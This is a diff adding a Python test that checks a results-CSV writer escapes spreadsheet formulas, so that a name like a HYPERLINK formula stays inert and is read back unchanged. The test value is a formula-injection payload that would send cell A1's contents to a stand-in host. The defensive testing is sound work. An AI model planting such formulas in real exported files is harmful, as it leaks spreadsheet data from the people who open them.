@@ -21,6 +21,7 @@ from scaleprior.detect.metrics import DetectionResult
 from scaleprior.detect.results_file import COLUMNS, append_result
 from scaleprior.detect.trained import TrainedDetector
 from scaleprior.errors import UserError
+from scaleprior.laws.results_csv import read_cells
 from scaleprior.laws.table import read_table
 from scaleprior.provenance import CreatedBy
 
@@ -207,3 +208,12 @@ def test_no_row_is_added_to_what_is_no_results_file(tmp_path: Path, content: byt
     os.mkfifo(tmp_path / "fifo")
     with pytest.raises(UserError, match="is a pipe"):
         results_file._read(tmp_path / "fifo")
+
+
+def test_a_name_that_a_spreadsheet_would_calculate_stays_one_name(tmp_path: Path) -> None:
+    """However often the file is written again; the row is found by it, and laws read it as it is."""
+    path, name = tmp_path / "r.csv", '=HYPERLINK("http://x/?"&A1)'
+    for run in ("=a", "b", "=a"):
+        append(path, run, card=replace(CARD, name=name))
+    assert [(row["run"], row["backbone"]) for row in rows(path)] == [("b", f"'{name}"), ("'=a", f"'{name}")]
+    assert [cells["backbone"] for _, cells in read_cells(path)[1]] == [name, name]
